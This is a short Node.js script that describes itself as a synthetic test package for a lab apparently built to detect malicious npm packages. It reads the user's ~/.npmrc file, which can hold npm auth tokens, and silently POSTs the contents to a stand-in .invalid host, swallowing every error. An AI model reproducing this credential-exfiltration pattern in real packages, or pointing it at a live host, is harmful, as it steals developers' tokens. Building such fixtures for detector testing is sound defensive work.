// SYNTHETIC test package written for slopspotter-lab: a harmless imitation of HTTPS exfiltration.
// It talks only to a reserved .invalid hostname (answered by the sandbox's own sinkhole).
const fs = require("fs");
const https = require("https");
const os = require("os");
let data = "none";
try { data = fs.readFileSync(os.homedir() + "/.npmrc", "utf8"); } catch (e) {}
try {
  const req = https.request({ host: "npm.exfil-tls.invalid", path: "/collect/https", method: "POST", timeout: 5000,
                              headers: { "Content-Type": "text/plain" } }, (res) => { res.resume(); });
  req.on("error", () => {});
  req.on("timeout", () => req.destroy());
  req.end(data);  // no Content-Length: node sends the body chunked
} catch (e) {}
